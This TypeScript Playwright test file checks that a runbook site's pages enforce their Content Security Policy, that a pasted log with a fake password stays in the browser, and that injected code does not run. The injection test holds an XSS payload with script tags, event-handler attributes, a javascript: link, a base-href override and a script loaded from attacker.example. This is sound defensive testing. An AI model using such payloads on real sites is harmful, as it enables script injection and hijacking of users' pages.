import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { useSite } from '../support/browser.ts';
import { pageOfEachType } from '../support/pages.ts';

const site = useSite();
const types = pageOfEachType();

describe('the pages comply with their own policy', () => {
	test.each(types)('$type ($pathname)', async ({ pathname }) => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			await page.goto(pathname);
			expect(await seen.problems()).toEqual([]);
		});
	});

	test('while a reader looks something up from a page and follows the first result', async () => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			await page.goto('/runbooks/');
			await page.keyboard.press('/');
			await page.keyboard.type('connection');
			await page.keyboard.press('Enter');
			await page.waitForURL((url) => url.pathname === '/search/');
			const first = page.locator('.results a').first();
			await first.click();
			await page.waitForURL((url) => !url.pathname.startsWith('/search/'));
			await page.waitForLoadState('load');
			expect(await seen.problems()).toEqual([]);
		});
	});

	test('while a reader copies a command, ticks it and switches the theme', async () => {
		await site.withPage({ permissions: ['clipboard-read', 'clipboard-write'] }, async (page) => {
			const seen = await watch(page);
			await page.goto(types.find(({ type }) => type === 'runbooks/*')?.pathname ?? '');
			await page.locator('hs-theme button').click();
			const command = page.locator('.mitigation hs-command').first();
			await command.locator('button').click();
			await page.getByRole('button', { name: 'Copy as it is' }).click();
			const shown = (await command.locator('pre code').textContent())?.trimEnd();
			await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(shown);
			await page.locator('.tick input').first().check();
			await page.locator('.tick time').waitFor();
			expect(await seen.problems()).toEqual([]);
		});
	});
});

describe('a paste stays in the browser', () => {
	const SECRET = 'hunter2';
	const PASTE = `sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached\n password=${SECRET} connection timed out, timeout 30.00`;

	test.each(['/', '/search/'])('when it is put into the box of %s', async (pathname) => {
		await site.withPage({}, async (page) => {
			const asked = requestsOf(page);
			await page.goto(pathname);
			await page.locator('main hs-paste textarea').fill(PASTE);
			await page.locator('main form button').click();
			await page.waitForURL((url) => url.pathname === '/search/');
			await quiet(page);
			expect(await page.locator('main hs-paste textarea').inputValue()).toBe(PASTE);
			expect(asked.filter((request) => request.includes(SECRET))).toEqual([]);
			expect(page.url()).not.toContain(SECRET);
		});
	});

	test('when it is put into the dialog of a page, even while scripts are slow to arrive', async () => {
		await site.withPage({}, async (page) => {
			const asked = requestsOf(page);
			await page.goto('/runbooks/');
			await page.route(/\/_astro\/.*\.js$/, async (route) => {
				await new Promise((resolve) => setTimeout(resolve, 500));
				await route.continue();
			});
			await page.keyboard.press('/');
			await page.locator('dialog textarea').fill(PASTE);
			await page.locator('dialog form button').click();
			await page.waitForTimeout(1500);
			expect(asked.filter((request) => request.includes(SECRET))).toEqual([]);
		});
	});

	test('when JavaScript is off and the form can only lead to the lists', async () => {
		await site.withPage({ javaScriptEnabled: false }, async (page) => {
			const asked = requestsOf(page);
			for (const pathname of ['/', '/search/']) {
				await page.goto(pathname);
				await page.locator('main hs-paste textarea').fill(PASTE);
				await page.locator('main hs-paste button').click();
				await page.waitForURL((url) => url.pathname === '/search/');
				expect(await page.locator('noscript a[href="/errors/"], main a[href="/errors/"]').count()).toBeGreaterThan(0);
			}
			expect(asked.length).toBeGreaterThan(2);
			expect(asked.filter((request) => request.includes(SECRET))).toEqual([]);
		});
	});
});

describe('code that is injected into a page', () => {
	const PAYLOAD = `<script>window.pwned = 'script'</script>
		<img src="/no-such-picture" onerror="window.pwned = 'handler'">
		<svg onload="window.pwned = 'svg'"></svg>
		<script src="https://attacker.example/x.js"></script>
		<a id="bait" href="javascript:window.pwned = 'link'">bait</a>
		<base href="https://attacker.example/">`;

	test.each(types)('does not run on $type', async ({ pathname }) => {
		await site.withPage({}, async (page) => {
			const seen = await watch(page);
			await inject(page, PAYLOAD, (html) => html);
			await page.goto(pathname);
			await page.locator('#bait').dispatchEvent('click');
			await quiet(page);
			expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
			expect(await page.evaluate(() => document.baseURI)).not.toContain('attacker');
			expect(seen.refused()).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'base-uri']));
		});
	});

	test('would run if the page had no policy', async () => {
		await site.withPage({}, async (page) => {
			await inject(page, PAYLOAD, (html) => html.replace(/<meta[^>]*content-security-policy[^>]*>/gi, ''));
			await page.goto('/');
			expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeDefined();
		});
	});
});

/** Puts `payload` at the end of every page, on its way to the browser. */
async function inject(page: Page, payload: string, change: (html: string) => string): Promise<void> {
	await page.route(`${site.url}/**`, async (route) => {
		if (route.request().resourceType() !== 'document') return route.continue();
		const response = await route.fetch();
		const html = change(await response.text()).replace(/<\/body>|$/, (end) => payload + end);
		return route.fulfill({ response, body: html });
	});
	// No request of a test may leave the machine.
	await page.route(/attacker\.example/, (route) => route.abort());
}

/** Address and body of every request. */
function requestsOf(page: Page): string[] {
	const asked: string[] = [];
	page.on('request', (request) => asked.push(`${decodeURIComponent(request.url())} ${request.postData() ?? ''}`));
	return asked;
}

/** Records everything that a page must not do: violate the policy, log an error, fail, or contact another origin. */
async function watch(page: Page): Promise<Watch> {
	const problems: string[] = [];
	const refused: string[] = [];
	page.on('console', (message) => {
		const [, directive] =
			/violates the following Content Security Policy directive: "([\w-]+)/.exec(message.text()) ?? [];
		if (directive) problems.push(`policy: ${message.text()}`);
		else if (message.type() === 'error' || message.type() === 'warning') problems.push(`console: ${message.text()}`);
	});
	page.on('pageerror', (error) => problems.push(`exception: ${error.message}`));
	page.on('requestfailed', (request) => {
		// Leaving a page cancels its pending requests.
		const reason = request.failure()?.errorText ?? '';
		if (reason !== 'net::ERR_ABORTED') problems.push(`failed: ${request.url()} ${reason}`);
	});
	page.on('request', (request) => {
		const { protocol, origin } = new URL(request.url());
		if (protocol !== 'data:' && protocol !== 'blob:' && origin !== site.url) problems.push(`request: ${request.url()}`);
	});
	await page.exposeBinding('hsRefused', (_source, directive: string) => {
		refused.push(directive);
	});
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
			(window as unknown as { hsRefused: (directive: string) => void }).hsRefused(effectiveDirective);
		});
	});
	return {
		async problems() {
			await quiet(page);
			return [...problems, ...refused.map((directive) => `refused: ${directive}`)];
		},
		refused: () => refused,
	};
}

/** Waits until the page has finished its work after loading. */
async function quiet(page: Page): Promise<void> {
	await page.waitForLoadState('load');
	await page.waitForTimeout(150);
}

interface Watch {
	problems: () => Promise<string[]>;
	/** Violated directives, in order. */
	refused: () => string[];
}
